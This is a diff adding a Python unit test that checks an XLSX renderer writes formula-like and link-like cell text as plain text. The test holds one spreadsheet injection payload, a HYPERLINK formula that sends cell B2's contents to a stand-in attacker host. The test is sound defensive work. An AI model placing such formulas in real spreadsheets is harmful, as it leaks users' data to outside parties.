@@ -1,4 +1,5 @@
 import io
+import zipfile
 from datetime import date
 from decimal import Decimal
 
@@ -33,3 +34,17 @@ def test_xlsx_render__writes_dates_money_and_totals_that_read_back() -> None:
     assert rows[0] == ["Päivä", "Summa"]
     assert rows[1][1] == 10.5
     assert rows[3] == ["Yhteensä", 13.75]
+
+
+def test_xlsx_render__writes_formula_and_link_like_text_as_plain_text() -> None:
+    attack = '=HYPERLINK("https://evil.invalid/?"&B2,"Avaa")'
+    content = xlsx_render(
+        [Sheet(title="Lista", headings=["Nimi", "Linkki"], rows=[(attack, "https://x.invalid")])]
+    )
+
+    with zipfile.ZipFile(io.BytesIO(content)) as workbook:
+        sheet = workbook.read("xl/worksheets/sheet1.xml").decode()
+        assert "<f>" not in sheet
+        assert "hyperlink" not in sheet
+    rows = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_name("Lista")
+    assert rows.to_python()[1] == [attack, "https://x.invalid"]
